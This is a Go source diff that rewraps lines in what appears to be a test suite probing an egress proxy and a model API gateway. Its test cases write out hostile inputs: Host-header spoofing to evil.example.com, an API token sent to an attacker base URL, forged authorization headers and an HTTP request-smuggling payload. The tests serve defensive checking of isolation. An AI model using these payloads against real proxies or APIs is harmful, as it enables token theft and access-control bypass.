@@ -125,7 +125,8 @@ func raw(ctx context.Context, text string) (net.Conn, *http.Response, error) {
 		return nil, nil, err
 	}
 	auth := "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(proxy.User.String()))
-	if _, err := io.WriteString(conn, strings.ReplaceAll(strings.ReplaceAll(text, "$AUTH", auth), "\n", "\r\n")); err != nil {
+	if _, err := io.WriteString(conn, strings.ReplaceAll(strings.ReplaceAll(text, "$AUTH", auth), "\n",
+		"\r\n")); err != nil {
 		return nil, nil, err
 	}
 	resp, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: strings.Fields(text)[0]})
@@ -181,8 +182,10 @@ func network() {
 	try("proxy: port", get("https://"+registry+":8443/"))
 	try("proxy: redirect", get("https://"+registry+"/redirect"))
 	try("proxy: redirect, plain", get("http://"+registry+"/redirect"))
-	try("proxy: Host of the allowed", ask("GET http://evil.example.com/ HTTP/1.1\nHost: "+registry+"\n$AUTH\nConnection: close\n\n"))
-	try("proxy: Host of another", ask("GET http://"+registry+"/host HTTP/1.1\nHost: evil.example.com\n$AUTH\nConnection: close\n\n"))
+	try("proxy: Host of the allowed", ask("GET http://evil.example.com/ HTTP/1.1\nHost: "+registry+
+		"\n$AUTH\nConnection: close\n\n"))
+	try("proxy: Host of another", ask("GET http://"+registry+
+		"/host HTTP/1.1\nHost: evil.example.com\n$AUTH\nConnection: close\n\n"))
 	try("proxy: no token", ask("GET http://"+registry+"/ HTTP/1.1\nHost: "+registry+"\nConnection: close\n\n"))
 	try("proxy: name resolves inside", get("https://inside.example.com/"))
 	try("proxy: TLS for another", func(ctx context.Context) (string, error) {
@@ -245,7 +248,8 @@ func model() {
 		return send(req)
 	})
 	try("model", post(base+"/v1/messages", token, `{"model":"claude-opus-4-5","max_tokens":10}`))
-	try("two models", post(base+"/v1/messages", token, `{"model":"claude-haiku-4-5","model":"claude-opus-4-5","max_tokens":10}`))
+	try("two models", post(base+"/v1/messages", token,
+		`{"model":"claude-haiku-4-5","model":"claude-opus-4-5","max_tokens":10}`))
 	try("no token", post(base+"/v1/messages", "", fits))
 	try("another's token", post(base+"/v1/messages", os.Getenv("OTHER_TOKEN"), fits))
 	proxy, _ := url.Parse(os.Getenv("HTTPS_PROXY"))
@@ -253,7 +257,8 @@ func model() {
 	try("token of the proxy", post(base+"/v1/messages", password, fits))
 	// What a repository's settings might say: the token would go to another.
 	try("base URL of the repository", post("https://evil.example.com/v1/messages", token, fits))
-	try("headers", post(base+"/v1/messages", token, fits, "X-Forwarded-Host", "evil.example.com", "Authorization", "Bearer mine", "Anthropic-Organization", "mine", "Host", "evil.example.com"))
+	try("headers", post(base+"/v1/messages", token, fits, "X-Forwarded-Host", "evil.example.com", "Authorization",
+		"Bearer mine", "Anthropic-Organization", "mine", "Host", "evil.example.com"))
 	try("headers in a header", func(ctx context.Context) (string, error) {
 		conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", strings.TrimPrefix(base, "http://"))
 		if err != nil {
@@ -261,7 +266,8 @@ func model() {
 		}
 		defer func() { _ = conn.Close() }()
 		// One request by its length, two by its chunks.
-		text := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + token + "\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" +
+		text := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + token +
+			"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" +
 			"0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + token + "\r\nContent-Length: 2\r\n\r\n{}"
 		if _, err := io.WriteString(conn, text); err != nil {
 			return "", err
